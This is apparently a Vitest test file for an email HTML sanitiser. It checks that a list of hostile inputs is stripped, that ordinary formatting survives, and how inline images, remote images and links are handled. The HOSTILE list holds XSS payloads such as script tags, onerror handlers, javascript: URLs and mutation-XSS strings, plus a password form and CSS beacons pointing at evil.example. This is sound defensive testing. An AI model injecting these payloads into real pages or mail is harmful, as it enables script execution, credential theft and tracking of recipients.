import { describe, expect, it } from 'vitest';
import { sanitiseHtml } from '../../../src/channels/email/sanitise.ts';

const clean = (html: string, remote: 'blocked' | 'allowed' = 'blocked') =>
  sanitiseHtml(html, { remote, cid: (id) => ({ 'logo@shop': 0, 'a b@shop': 1 })[id.toLowerCase()] });

/** What runs in some reader or other, or reaches out of the mail. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<div style="background-image:url(\'https://evil.example\')">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>',
  '<video src="https://evil.example/x.mp4" autoplay></video><audio src="https://evil.example/x.mp3">',
  '<img srcset="https://evil.example/x.png 1x">',
  '<img src="//evil.example/x.png">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<p id="top" name="x" class="y" onclick="alert(1)">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<a href="https://ok.example" ping="https://evil.example" onfocus=alert(1) autofocus>x</a>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
];

describe('the HTML of a mail', () => {
  it('runs nothing and phones nobody', () => {
    for (const html of HOSTILE) {
      const shown = clean(html);
      expect(shown, html).not.toMatch(
        /<(script|svg|math|iframe|object|embed|form|input|meta|base|link|style|video|audio|textarea|template)/i,
      );
      expect(shown, html).not.toMatch(/<[^>]*\s(on\w+|srcset|background|ping|id|name|class)\s*=/i);
      expect(shown, html).not.toMatch(/(javascript|vbscript|expression|data:text|svg\+xml)/i);
      expect(shown, html).not.toMatch(/\s(src|href)="(https?:)?\/\/evil/i);
      expect(shown, html).not.toMatch(/style="[^"]*(url|position|expression)/i);
      expect(clean(shown), html).toBe(shown);
    }
  });

  it('keeps what people write with', () => {
    const html =
      '<p style="color:red;text-align:center">Hello <b>you</b></p><ul><li>one</li></ul><blockquote>said</blockquote>' +
      '<table border="1"><tr><td colspan="2">x</td></tr></table><div dir="rtl">שלום</div>';
    expect(clean(html)).toBe(html);
  });

  it('shows images of the mail itself by their place among its files', () => {
    expect(clean('<img src="cid:LOGO@shop" alt="Logo">')).toBe('<img alt="Logo" src="attachment:0" />');
    expect(clean('<img src="cid:a%20b@shop">')).toBe('<img src="attachment:1" />');
    expect(clean('<img src="cid:gone@shop" alt="Gone">')).toBe('<img alt="Gone" />');
    expect(clean('<img src="cid:%E0%A4%A@shop">')).toBe('');
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=">')).toContain('data:image/png');
  });

  it('fetches no image from elsewhere unless the channel allows it', () => {
    const html = '<img src="https://shop.example/a.png" alt="A">';
    expect(clean(html)).toBe('<img alt="A" data-remote-src="https://shop.example/a.png" />');
    expect(clean(html, 'allowed')).toBe('<img alt="A" src="https://shop.example/a.png" />');
    const pixel = '<img src="https://shop.example/open.gif" width="1" height="1">';
    expect([clean(pixel), clean(pixel, 'allowed')]).toEqual(['', '']);
    expect(clean('<img data-remote-src="javascript:alert(1)" alt="x">')).toBe('<img alt="x" />');
  });

  it('opens links elsewhere, without a way back', () => {
    expect(clean('<a href="https://shop.example/" target="_top" rel="opener">shop</a>')).toBe(
      '<a href="https://shop.example/" target="_blank" rel="noopener noreferrer nofollow">shop</a>',
    );
  });

  it('survives what nobody writes', () => {
    for (const html of [
      '<div>'.repeat(100_000),
      '<'.repeat(200_000),
      '<b><i>'.repeat(50_000),
      '<p style="a:b;',
    ])
      expect(clean(html)).toBeTypeOf('string');
  });
});
